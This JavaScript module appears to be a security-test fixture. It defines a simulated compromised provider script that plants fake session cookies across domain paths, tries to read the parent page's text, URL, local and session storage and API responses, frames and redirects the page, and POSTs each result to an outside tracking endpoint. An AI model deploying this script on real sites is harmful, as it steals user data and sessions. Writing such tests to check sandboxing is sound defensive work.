/** Attacks of the script; each result is reported under its name. */
const attacks = `{
  'text of the page': () => parent.document.body.textContent,
  'address of the page': () => parent.location.href,
  'storage of the site': () => JSON.stringify(parent.localStorage),
  'storage of the tab': () => JSON.stringify(parent.sessionStorage),
  'call by the page': () => parent.fetch('/api/holidays').then((response) => response.text()),
  'call of the site': () => fetch(site + '/api/holidays').then((response) => response.text()),
  'call of its host': () => fetch('/api/holidays').then((response) => response.text()),
  'page in a frame': () => new Promise((resolve, reject) => {
    const frame = document.createElement('iframe');
    frame.addEventListener('load', () => {
      try { resolve(frame.contentDocument.body.textContent); } catch (problem) { reject(problem); }
    });
    frame.src = site + '/tours';
    document.body.append(frame);
  }),
  'another address for the page': () => (top.location = site + '/contact'),
}`;

/** Number of attacks that the script tries. */
export const attackCount = (attacks.match(/^ {2}'/gm) ?? []).length;

/** A session cookie that the script plants, for every domain and path that a request of the console might use. */
const planted = 'DEVXCE0000000000.PERS0N0000000000.'.padEnd(77, 's');

/**
 * A compromised provider's script. It plants cookies for the whole domain, tries to reach the surrounding page,
 * its storage and the API, and reports each result to the provider's server.
 */
export const hostileScript = `
  const site = location.origin.replace('//m.', '//');
  const domain = new URL(site).hostname;
  for (const name of ['__Host-staff', '__Secure-staff', 'staff-device'])
    for (const path of ['/', '/api/staff', '/api/staff/today'])
      for (const reach of ['', '; domain=' + domain])
        document.cookie = name + '=${planted}; path=' + path + '; secure' + reach;
  const report = (way, result) => fetch('https://www.facebook.com/tr', { method: 'POST', mode: 'no-cors',
    body: JSON.stringify({ way, ...result }) });
  (async () => {
    for (const [way, tryIt] of Object.entries(${attacks})) {
      try { await report(way, { gave: String(await tryIt()) }); } catch (problem) { await report(way, { refused: problem.name }); }
    }
  })();
`;
